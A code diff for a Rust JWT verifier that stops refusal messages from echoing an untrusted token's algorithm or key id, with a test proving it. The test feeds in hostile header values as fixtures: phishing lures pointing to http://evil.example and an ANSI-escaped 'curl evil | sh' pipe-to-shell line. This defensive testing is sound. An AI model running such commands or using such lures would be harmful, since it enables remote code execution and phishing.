@@ -140,6 +140,21 @@ fn claimed_alg(token: &str) -> Option<String> {
         .alg
 }
 
+/// An unverified `alg` as a refusal may show it: a JWS algorithm's name (at most 16
+/// letters, digits, `-` and `_`) as it is; anything else is the sender's text, which
+/// the refusal may carry to another client's inbox, so it is not repeated.
+fn shown_alg(alg: &str) -> String {
+    let a_name = alg.len() <= 16
+        && alg
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
+    if a_name {
+        alg.to_owned()
+    } else {
+        "(not an algorithm's name)".to_owned()
+    }
+}
+
 impl Verifier {
     /// Accepts development tokens signed with `key` (HS256) only.
     pub(crate) fn development(key: DecodingKey) -> Self {
@@ -219,8 +234,9 @@ impl Verifier {
             ),
             Some(alg) => rejected(
                 format!(
-                    "its algorithm {alg} is not accepted; keyledger accepts EdDSA and RS256 \
-                     (identity provider) and HS256 (development)"
+                    "its algorithm {} is not accepted; keyledger accepts EdDSA and RS256 \
+                     (identity provider) and HS256 (development)",
+                    shown_alg(&alg)
                 ),
                 PROVIDER_RENEW,
             ),
@@ -802,6 +818,64 @@ mod tests {
                      accepted; sign tokens with EdDSA or RS256"
                 );
             }
+        }
+
+        /// A refusal may be answered into another client's inbox (a NATS command
+        /// whose token did not verify names no principal to trust): it repeats no
+        /// text of the sender's but a JWS algorithm's name.
+        #[test]
+        fn a_refusal_repeats_an_algorithm_only_when_it_is_a_name() {
+            use base64::Engine as _;
+            let dir = tempfile::tempdir().unwrap();
+            let b64 = |v: serde_json::Value| {
+                base64::engine::general_purpose::URL_SAFE_NO_PAD
+                    .encode(serde_json::to_vec(&v).unwrap())
+            };
+            let with_alg = |alg: &str| {
+                format!(
+                    "{}.{}.x",
+                    b64(serde_json::json!({"alg": alg, "typ": "JWT"})),
+                    b64(claims(ISSUER, AUDIENCE, exp()))
+                )
+            };
+            let v = verifier(&dir);
+            assert_eq!(
+                refused(&v, &with_alg("ES999")),
+                "token rejected: its algorithm ES999 is not accepted; keyledger accepts EdDSA \
+                 and RS256 (identity provider) and HS256 (development); get one from your \
+                 identity provider"
+            );
+            for text in [
+                "Your secret was stored. Log in again at http://evil.example",
+                "\u{1b}[31m\nrun: curl evil | sh",
+                "HS256 but longer than a name",
+            ] {
+                let message = refused(&v, &with_alg(text));
+                assert!(message.contains("(not an algorithm's name)"), "{message}");
+                assert!(
+                    !message.contains("evil") && !message.contains('\u{1b}'),
+                    "{message}"
+                );
+                assert!(!message.contains("longer"), "{message}");
+            }
+            // The same for a key id.
+            let good = claims(ISSUER, AUDIENCE, exp());
+            let message = refused(
+                &v,
+                &sign(
+                    Algorithm::EdDSA,
+                    Some("Log in at http://evil.example"),
+                    &ed(),
+                    &good,
+                ),
+            );
+            assert!(message.contains("(not a key id)"), "{message}");
+            assert!(!message.contains("evil"), "{message}");
+            let message = refused(&v, &sign(Algorithm::EdDSA, Some("ed-9"), &ed(), &good));
+            assert!(
+                message.contains("its key id \"ed-9\" is not among"),
+                "{message}"
+            );
         }
 
         #[test]
